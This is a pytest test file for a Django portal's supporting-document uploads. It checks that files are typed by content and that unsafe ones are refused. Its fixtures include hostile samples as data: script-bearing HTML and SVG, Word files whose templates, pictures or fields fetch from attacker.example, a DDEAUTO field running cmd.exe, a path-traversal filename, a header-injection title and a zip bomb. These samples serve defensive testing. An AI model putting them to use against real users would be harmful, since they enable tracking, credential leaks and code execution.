"""Supporting documents: checked by their content against the four types taken, capped in size,
stored through Django's storage API, listed on the overview with their type and size, served as
attachments that cannot run, and private while their consultation is a draft."""

import html
import io
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import docx
import pypdf
import pytest
from django.contrib.auth.models import Group, User
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from guidance.consultations import packages, supporting
from guidance.models import Consultation, Document, SupportingDocument
from tests.factories import ConsultationFactory, pdf

pytestmark = pytest.mark.django_db
ROOT = Path(__file__).resolve().parents[1]


PDF = pdf(padding=1_260_000)


def word():
    document = docx.Document()
    document.add_paragraph("An easy-read version.")
    data = io.BytesIO()
    document.save(data)
    return data.getvalue()


def zipped(members, first=None):
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        if first:
            archive.writestr(zipfile.ZipInfo(first[0]), first[1])  # stored, as ODF wants its mimetype
        for name, content in members.items():
            archive.writestr(name, content, compress_type=zipfile.ZIP_DEFLATED)
    return data.getvalue()


OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"


def odt(body=""):
    content = (
        f'<office:document-content xmlns:office="{OFFICE}" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
        ' xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink">'
        f"<office:body><office:text>{body}</office:text></office:body></office:document-content>"
    )
    return zipped({"content.xml": content}, first=("mimetype", "application/vnd.oasis.opendocument.text"))


ODT = odt("<text:p>An easy-read version.</text:p>")
DOCM = zipped(
    {
        "[Content_Types].xml": '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
        "</Types>",
        "word/document.xml": "<w:document/>",
    }
)
TAKEN = {
    "PDF": (PDF, "pdf", "application/pdf"),
    "Word": (word(), "docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    "OpenDocument": (ODT, "odt", "application/vnd.oasis.opendocument.text"),
    "text": ("Plain words, with Welsh ŵ and a tab\t.\r\n".encode(), "txt", "text/plain; charset=utf-8"),
}
REFUSED = {
    "an executable named .pdf": (b"MZ\x90\x00" + bytes(range(256)) * 8, "is not a PDF"),
    "HTML named .txt": (b"<!DOCTYPE html><script>alert(1)</script>", "is not a PDF"),
    "SVG named .txt": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "is not a PDF"),
    "a PNG": (b"\x89PNG\r\n\x1a\n" + b"\x00" * 100, "is not a PDF"),
    "a macro-enabled Word document": (DOCM, "a ZIP file of another kind"),
    "a spreadsheet": (zipped({"xl/workbook.xml": "<workbook/>"}), "a ZIP file of another kind"),
    "a broken ZIP": (b"PK\x03\x04" + b"\x00" * 50, "damaged"),
    "an old Word document or a password-protected one": (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
        "older Office file",
    ),
    "a PDF cut short": (PDF[:2000], "incomplete"),
    "an empty file": (b"", "empty"),
    "text in another encoding": ("Caf\u00e9 cr\u00e8me".encode("latin-1"), "is not a PDF"),
}


@pytest.mark.parametrize("kind", TAKEN)
def test_each_type_taken_is_recognised_by_its_content_whatever_its_name(kind):
    data, file_type, _ = TAKEN[kind]
    assert supporting.file_type(data) == file_type
    upload = SimpleUploadedFile("misleading-name.exe", data)
    assert supporting.check_upload(upload) == file_type


@pytest.mark.parametrize("case", REFUSED)
def test_anything_else_is_refused_by_its_content(case, client):
    data, message = REFUSED[case]
    client.force_login(manager())
    consultation = ConsultationFactory()
    page = client.post(
        reverse("admin:guidance_consultation_documents", args=[consultation.pk]),
        {"title": "Full draft", "file": SimpleUploadedFile("draft.pdf", data)},
    )
    assert page.status_code == 400
    assert message in page.content.decode()
    assert not SupportingDocument.objects.exists()
    assert not default_storage.exists("supporting") or not default_storage.listdir(f"supporting/{consultation.pk}")[1]


def test_a_file_over_the_cap_is_refused(client, settings):
    settings.SUPPORTING_DOCUMENT_MAX_MB = 1
    client.force_login(manager())
    consultation = ConsultationFactory()
    page = client.post(
        reverse("admin:guidance_consultation_documents", args=[consultation.pk]),
        {"title": "Full draft", "file": SimpleUploadedFile("draft.pdf", PDF)},
    )
    assert "The file is larger than 1 MB" in page.content.decode()
    assert not SupportingDocument.objects.exists()


def manager():
    user = User.objects.create_user("manager", is_staff=True)
    user.groups.add(Group.objects.get(name="Consultation manager"))
    return user


def test_a_manager_attaches_a_pdf_listed_with_its_type_and_size_and_served_as_an_attachment(client):
    consultation = ConsultationFactory()
    consultation.document.source_url = "https://www.example.org/draft-guidance"
    consultation.document.save()
    staff = Client_for(manager())
    staff.post(
        reverse("admin:guidance_consultation_documents", args=[consultation.pk]),
        {"title": "Full draft", "file": SimpleUploadedFile("../../etc/passwd.pdf", PDF)},
    )
    document = SupportingDocument.objects.get()
    assert (document.file_type, document.size) == ("pdf", len(PDF))
    assert document.file.name.startswith(f"supporting/{consultation.pk}/") and document.file.name.endswith(".pdf")
    assert "passwd" not in document.file.name
    assert default_storage.exists(document.file.name)

    overview = client.get(consultation.get_absolute_url()).content.decode()
    assert ">Full draft</a> (PDF, 1.2\xa0MB)" in overview
    assert (
        'href="https://www.example.org/draft-guidance" rel="noopener noreferrer">The original document</a>' in overview
    )

    download = client.get(reverse("guidance:supporting_document", args=[consultation.slug, document.pk]))
    assert download.status_code == 200
    assert download["Content-Type"] == "application/pdf"
    assert download["Content-Disposition"] == 'attachment; filename="full-draft.pdf"'
    assert download["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert download["X-Content-Type-Options"] == "nosniff"
    assert b"".join(download.streaming_content) == PDF


def Client_for(user):
    from django.test import Client

    client = Client()
    client.force_login(user)
    return client


def test_a_title_cannot_put_anything_into_the_download_header(client):
    consultation = ConsultationFactory()
    document = supporting.attach(
        consultation, 'Draft"; filename="evil.html\r\nX-Bad: 1', SimpleUploadedFile("a.txt", b"Words."), by=None
    )
    download = client.get(reverse("guidance:supporting_document", args=[consultation.slug, document.pk]))
    assert download["Content-Disposition"] == 'attachment; filename="draft-filenameevilhtml-x-bad-1.txt"'
    assert "X-Bad" not in download


def test_a_document_of_another_consultation_or_a_removed_file_is_not_found(client):
    first, second = ConsultationFactory(), ConsultationFactory()
    document = supporting.attach(first, "Full draft", SimpleUploadedFile("a.txt", b"Words."), by=None)
    assert client.get(reverse("guidance:supporting_document", args=[second.slug, document.pk])).status_code == 404
    default_storage.delete(document.file.name)
    assert client.get(reverse("guidance:supporting_document", args=[first.slug, document.pk])).status_code == 404


def test_removing_a_document_deletes_its_file(django_capture_on_commit_callbacks):
    consultation = ConsultationFactory()
    document = supporting.attach(consultation, "Full draft", SimpleUploadedFile("a.txt", b"Words."), by=None)
    name = document.file.name
    staff = Client_for(manager())
    with django_capture_on_commit_callbacks(execute=True):
        staff.post(reverse("admin:guidance_consultation_document_remove", args=[consultation.pk, document.pk]))
    assert not SupportingDocument.objects.exists()
    assert not default_storage.exists(name)


def test_moderators_may_list_but_not_add_documents():
    consultation = ConsultationFactory()
    moderator = User.objects.create_user("moderator", is_staff=True)
    moderator.groups.add(Group.objects.get(name="Moderator"))
    staff = Client_for(moderator)
    url = reverse("admin:guidance_consultation_documents", args=[consultation.pk])
    assert "Add a document" not in staff.get(url).content.decode()
    staff.post(url, {"title": "Full draft", "file": SimpleUploadedFile("a.txt", b"Words.")})
    assert not SupportingDocument.objects.exists()


def test_a_drafts_documents_are_private(client):
    consultation = ConsultationFactory(publication=Consultation.Publication.DRAFT)
    document = supporting.attach(consultation, "Full draft", SimpleUploadedFile("a.txt", b"Words."), by=None)
    assert client.get(reverse("guidance:supporting_document", args=[consultation.slug, document.pk])).status_code == 404


def test_an_s3_compatible_store_is_chosen_by_configuration():
    env = {
        **{k: v for k, v in os.environ.items() if not k.startswith(("DJANGO_", "AWS_", "FILE_"))},
        "DJANGO_SECRET_KEY": "k3Jd9s-83jdKs0_2kdmLq8Zp1xV7cB4nW6yT5rE0uI9oP3aS2dF1gH8jK7lM6",
        "FILE_STORAGE": "s3",
        "AWS_STORAGE_BUCKET_NAME": "consultation-files",
        "AWS_S3_ENDPOINT_URL": "http://127.0.0.1:9000",
        "AWS_ACCESS_KEY_ID": "test-key",
        "AWS_SECRET_ACCESS_KEY": "test-secret",
        "AWS_S3_REGION_NAME": "eu-west-2",
    }
    code = (
        "import django, os; os.environ['DJANGO_SETTINGS_MODULE'] = 'consult.settings'; django.setup()\n"
        "from django.core.files.storage import default_storage as s\n"
        "s.bucket_name\n"
        "print(type(s._wrapped).__name__, s.bucket_name, s.default_acl, s.querystring_auth, s.file_overwrite)\n"
        "print(s.url('supporting/1/x.pdf'))"
    )
    result = subprocess.run([sys.executable, "-c", code], cwd=ROOT, env=env, capture_output=True, text=True)
    assert result.returncode == 0, result.stderr
    first, url = result.stdout.splitlines()
    assert first == "S3Storage consultation-files private True False"
    assert url.startswith("http://127.0.0.1:9000/consultation-files/supporting/1/x.pdf?")
    assert "Signature" in url or "X-Amz-Signature" in url

    env.pop("AWS_STORAGE_BUCKET_NAME")
    result = subprocess.run([sys.executable, "-c", code], cwd=ROOT, env=env, capture_output=True, text=True)
    assert "FILE_STORAGE=s3 needs AWS_STORAGE_BUCKET_NAME" in result.stderr


def test_a_public_form_still_takes_no_file_and_a_huge_file_is_stopped_as_it_arrives(client, settings):
    consultation = ConsultationFactory()
    assert Document.objects.exists()
    settings.FILE_UPLOAD_MAX_BYTES = 1024
    staff = Client_for(manager())
    page = staff.post(
        reverse("admin:guidance_consultation_documents", args=[consultation.pk]),
        {"title": "Big", "file": SimpleUploadedFile("big.txt", b"x" * 5000)},
    )
    assert page.status_code == 400
    assert "too large for the portal to take" in page.content.decode()
    assert not SupportingDocument.objects.exists()


# A file is what it is from its very first byte, and a document offered to the public may not make
# a word processor fetch anything from elsewhere when it is opened.

HTML_WITH_PDF_IN_A_COMMENT = b"<!-- %PDF-1.4 -->\n<html><body><script>alert(document.cookie)</script></body></html>"


def encrypted_pdf(password):
    writer = pypdf.PdfWriter()
    writer.add_blank_page(200, 200)
    writer.encrypt(user_password=password, owner_password="owner", algorithm="RC4-128")
    data = io.BytesIO()
    writer.write(data)
    return data.getvalue()


def word_with(rels=b"", body=b""):
    """The tests' Word document with relationships added to its settings part, and XML added to
    its body."""
    members = {}
    with zipfile.ZipFile(io.BytesIO(word())) as archive:
        for name in archive.namelist():
            members[name] = archive.read(name)
    members["word/_rels/settings.xml.rels"] = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + rels
        + b"</Relationships>"
    )
    members["word/document.xml"] = members["word/document.xml"].replace(b"</w:body>", body + b"</w:body>")
    return zipped(members)


RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TEMPLATE_ELSEWHERE = (
    f'<Relationship Id="rId9" Type="{RELATIONSHIPS}/attachedTemplate" Target="http://attacker.example/t.dotx"'
    ' TargetMode="External"/>'
).encode()
PICTURE_ELSEWHERE = (
    f'<Relationship Id="rId8" Type="{RELATIONSHIPS}/image" Target="\\\\attacker.example\\share\\pixel.png"'
    ' TargetMode="External"/>'
).encode()
HYPERLINK = (
    f'<Relationship Id="rId7" Type="{RELATIONSHIPS}/hyperlink" Target="https://www.example.org/guidance"'
    ' TargetMode="External"/>'
).encode()


def field(instruction):
    return (
        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> '
        + instruction
        + b' </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown</w:t></w:r>'
        b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


REFUSED_BY_CONTENT = {
    "HTML with %PDF- in a comment": (HTML_WITH_PDF_IN_A_COMMENT, "a PDF's header (%PDF-) but not at its very start"),
    "HTML starting with a comment": (b"<!-- a page -->\n<script>alert(1)</script>", "This file is not a PDF"),
    "a PDF's header after other bytes": (b"Hello\n" + pdf(), "has a PDF's header (%PDF-) but not at its very start"),
    "a PDF header without a version": (b"%PDF-\n" + pdf()[9:], "not with a PDF version (such as %PDF-1.7)"),
    "a file dressed as a PDF": (
        b"%PDF-1.7\n<html><script>alert(1)</script></html>\nstartxref\n9\n%%EOF\n",
        "This PDF is damaged: its structure cannot be read",
    ),
    "a PDF that needs a password to open": (encrypted_pdf("secret"), "protected with a password"),
    "a Word document with its template elsewhere": (
        word_with(rels=TEMPLATE_ELSEWHERE),
        "fetch something from elsewhere when it is opened (an attached template at http://attacker.example/t.dotx)",
    ),
    "a Word document with a linked picture": (word_with(rels=PICTURE_ELSEWHERE), "(a linked picture at \\\\attacker"),
    "a Word document with an INCLUDEPICTURE field": (
        word_with(body=field(b'INCLUDEPICTURE "http://attacker.example/pixel.png" \\d')),
        "(a INCLUDEPICTURE field)",
    ),
    "a Word document with a DDEAUTO field": (
        word_with(body=field(b'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"')),
        "(a DDEAUTO field)",
    ),
    "an OpenDocument text with a picture elsewhere": (
        odt('<draw:frame><draw:image xlink:href="https://attacker.example/pixel.png"/></draw:frame>'),
        "(a link to https://attacker.example/pixel.png)",
    ),
    "an OpenDocument text with a file beside it": (
        odt('<draw:frame><draw:image xlink:href="../../secret.png"/></draw:frame>'),
        "(a link to ../../secret.png)",
    ),
}


@pytest.mark.parametrize("case", REFUSED_BY_CONTENT)
def test_a_file_that_is_not_what_it_claims_or_fetches_from_elsewhere_is_refused_and_not_stored(case, client):
    data, message = REFUSED_BY_CONTENT[case]
    client.force_login(manager())
    consultation = ConsultationFactory()
    page = client.post(
        reverse("admin:guidance_consultation_documents", args=[consultation.pk]),
        {"title": "Full draft", "file": SimpleUploadedFile("draft.pdf", data)},
    )
    assert page.status_code == 400
    assert message in html.unescape(page.content.decode())
    assert not SupportingDocument.objects.exists()


TAKEN_WITH_LINKS = {
    "a Word document with a hyperlink": (word_with(rels=HYPERLINK), "docx"),
    "a Word document with a HYPERLINK field": (word_with(body=field(b'HYPERLINK "https://example.org/"')), "docx"),
    "an OpenDocument text with a hyperlink": (
        odt('<text:p><text:a xlink:href="https://www.example.org/guidance">The guidance</text:a></text:p>'),
        "odt",
    ),
    "an OpenDocument text with its own picture": (
        odt('<draw:frame><draw:image xlink:href="Pictures/chart.png"/></draw:frame>'),
        "odt",
    ),
    "a PDF with an empty password to open it": (encrypted_pdf(""), "pdf"),
    "a PDF 2.0": (pdf(header=b"%PDF-2.0\r\n"), "pdf"),
}


@pytest.mark.parametrize("case", TAKEN_WITH_LINKS)
def test_hyperlinks_pictures_inside_the_file_and_an_openable_pdf_are_taken(case):
    data, kind = TAKEN_WITH_LINKS[case]
    assert supporting.file_type(data) == kind


def test_a_pdf_or_word_document_is_read_in_another_process_than_the_web_servers(monkeypatch):
    def read_here(*args, **kwargs):
        raise AssertionError("pypdf ran in the web process")

    monkeypatch.setattr(pypdf, "PdfReader", read_here)
    monkeypatch.setattr(packages, "scan", read_here)
    assert supporting.file_type(PDF) == "pdf"
    assert supporting.file_type(word()) == "docx"


def test_a_zip_bomb_named_docx_is_refused_by_its_declared_ratio():
    bomb = zipped({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:p/>" * 2_000_000})
    with pytest.raises(supporting.FileRefused, match="unpacks to .* times its size; the most the portal reads is 100"):
        supporting.file_type(bomb)
